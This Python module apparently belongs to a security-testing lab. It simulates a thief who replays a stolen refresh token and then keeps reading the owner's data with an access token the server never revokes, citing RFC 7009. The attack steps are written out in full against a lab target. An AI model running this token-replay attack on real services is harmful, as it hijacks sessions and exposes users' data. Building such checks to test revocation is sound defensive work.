"""Read on after your theft was noticed.

Exploits an access token that the server only verifies and keeps no list of. When owner and thief
have used one refresh token, both have to log in again; until it ends, the access token of the
thief still opens the data.
Source: RFC 7009, section 3 Implementation Note,
https://www.rfc-editor.org/rfc/rfc7009#section-3
"""

from attacks.lab.attack import attack
from attacks.lab.outcome import Outcome, judge, refused
from attacks.lab.target import NotApplicableError, Target, newest


@attack(door="noticed-late")
def run(target: Target) -> Outcome:
    """Renew as the thief, let the owner come with the same token, and read as the thief."""
    stolen = target.refresh_token_of(target.enrol())
    with target.as_thief() as thief:
        loot = thief.refresh(stolen)
        if not loot.is_success:
            return refused(f"the thief renews: {loot.status_code}")
        owner = target.refresh(stolen)
        if owner.is_success or thief.refresh(newest(loot, stolen)).is_success:
            raise NotApplicableError("nobody notices here that two use one refresh token")
        evidence = f"the owner renews: {owner.status_code}; the data, for the thief"
        return judge({evidence: thief.read(loot.json()["access_token"])})
